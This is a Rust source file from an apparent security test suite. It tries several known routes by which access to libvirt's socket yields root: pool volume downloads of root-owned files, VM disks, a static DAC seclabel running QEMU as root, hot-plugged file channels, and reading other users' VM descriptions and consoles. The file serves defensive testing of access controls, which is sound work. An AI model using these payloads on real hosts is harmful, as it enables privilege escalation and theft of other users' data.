// SPDX-License-Identifier: GPL-3.0-or-later
//! Going past the product, straight to libvirt: the three ways in which whoever reaches its socket
//! is root, and looking at what others have.

use std::{fs, process::Command};

use super::{
    LOCALS, USERS,
    domain::{disk, domain},
};
use crate::{Actor, Arena, Attempt, Facts, Layer, Loot, Off, Stage, Trouble, stage::virsh};

const NAME: &str = "hv-attack-direct";

pub(super) const ATTEMPTS: &[Attempt] = &[
    Attempt {
        name: "libvirt-pool",
        goal: "read a file of root's as a volume of a pool that one makes on its folder",
        success: "the file's bytes were read",
        run: |arena, _| {
            let folder = arena.canary.parent().unwrap_or(&arena.canary);
            each_socket(arena, |uri, loot| {
                let make = [
                    "pool-create-as",
                    NAME,
                    "dir",
                    "--target",
                    &folder.to_string_lossy(),
                ];
                attempt(uri, &make, loot);
                let target = own_file("volume");
                attempt(
                    uri,
                    &["vol-download", "--pool", NAME, "canary", &target],
                    loot,
                );
                attempt(uri, &["pool-destroy", NAME], loot);
                loot.take(fs::read(&target).unwrap_or_default());
                fs::remove_file(&target).ok();
            })
        },
        clear: |stage, _| {
            // It is only there if the attempt went through and was cut short.
            stage.root.virsh(&["pool-destroy", NAME]).ok();
            Ok(())
        },
        ..DIRECT
    },
    Attempt {
        name: "libvirt-disk",
        goal: "have a file of root's given to QEMU's user, as the disk of a VM that one makes",
        success: "the file belongs to QEMU's user",
        off: &[Off::Libvirt, Off::Hook],
        run: |arena, _| start(arena, &domain(NAME, "", &disk(&arena.canary, "raw"), "")),
        ..DIRECT
    },
    Attempt {
        name: "libvirt-seclabel",
        goal: "run a QEMU as root, by the security label of a VM that one makes",
        success: "a QEMU runs as root",
        off: &[Off::Libvirt, Off::Hook],
        run: |arena, _| {
            let label =
                "<seclabel type='static' model='dac' relabel='no'><label>+0:+0</label></seclabel>";
            start(arena, &domain(NAME, "", "", label))
        },
        ..DIRECT
    },
    Attempt {
        name: "libvirt-hot-plug",
        goal: "have libvirt make a file as root, by plugging a channel into a running VM",
        success: "a file was made in a folder that only root may enter",
        run: |arena, _| {
            // Under a name of its own each time: what was plugged in stays as long as the VM runs.
            let made = format!("made-{}", rustix::process::getuid().as_raw());
            let device = format!(
                "<channel type='file'><source path='{}'/><target type='virtio' name='{made}'/></channel>",
                arena.cellar.join(&made).display()
            );
            let file = own_file("device.xml");
            fs::write(&file, device)?;
            let own = &arena.own.name;
            let tried = each_socket(arena, |uri, loot| {
                // Of those that run, so that the hook is not even called.
                attempt(uri, &["attach-device", own, &file, "--live"], loot);
            });
            fs::remove_file(&file).ok();
            tried
        },
        actors: &[Actor::Operator, Actor::Viewer, Actor::Anonymous, Actor::Hvd],
        ..DIRECT
    },
    Attempt {
        name: "libvirt-look",
        goal: "look at the VM of somebody else with virsh",
        success: "its description was read",
        actors: USERS,
        run: |arena, _| {
            each_socket(arena, |uri, loot| {
                for words in [&["list", "--all"][..], &["dumpxml", &arena.victim.name]] {
                    match virsh(uri, words) {
                        Ok(said) => loot.take(said),
                        Err(trouble) => loot.told(trouble),
                    }
                }
            })
        },
        ..DIRECT
    },
    Attempt {
        name: "libvirt-console",
        goal: "read the console of the VM of somebody else with virsh",
        success: "the secret was read that its guest says",
        actors: USERS,
        run: |arena, _| {
            each_socket(arena, |uri, loot| {
                let read = Command::new("timeout")
                    .args(["4", "script", "-qec"])
                    .arg(format!(
                        "virsh -c '{uri}' console --force {}",
                        arena.victim.name
                    ))
                    .arg("/dev/null")
                    .output();
                match read {
                    Ok(output) => {
                        loot.take(&output.stdout);
                        loot.told(String::from_utf8_lossy(&output.stdout));
                    }
                    Err(error) => loot.told(error),
                }
            })
        },
        ..DIRECT
    },
];

/// What these attempts share.
const DIRECT: Attempt = Attempt {
    actors: LOCALS,
    layer: Layer::Libvirt,
    off: &[Off::Libvirt],
    clear,
    ..Attempt::PLAIN
};

/// Tries with each of libvirt's sockets.
#[expect(clippy::unnecessary_wraps, reason = "it is the whole of most attempts")]
fn each_socket(arena: &Arena, mut way: impl FnMut(&str, &mut Loot)) -> Result<Loot, Trouble> {
    let mut loot = Loot::default();
    for socket in &arena.libvirt {
        way(
            &format!("qemu:///system?socket={}", socket.display()),
            &mut loot,
        );
    }
    Ok(loot)
}

/// Runs virsh, and keeps how it was refused.
fn attempt(uri: &str, words: &[&str], loot: &mut Loot) {
    match virsh(uri, words) {
        Ok(said) => loot.take(said),
        Err(trouble) => loot.told(trouble),
    }
}

fn start(arena: &Arena, xml: &str) -> Result<Loot, Trouble> {
    let file = own_file("domain.xml");
    fs::write(&file, xml)?;
    let tried = each_socket(arena, |uri, loot| attempt(uri, &["create", &file], loot));
    fs::remove_file(&file).ok();
    tried
}

/// A file of the actor's own.
fn own_file(name: &str) -> String {
    let user = rustix::process::getuid().as_raw();
    format!("/tmp/hv-attack-{user}-{}-{name}", std::process::id())
}

fn clear(stage: &Stage, _: &Facts) -> Result<(), Trouble> {
    stage.remove_domain(NAME)
}
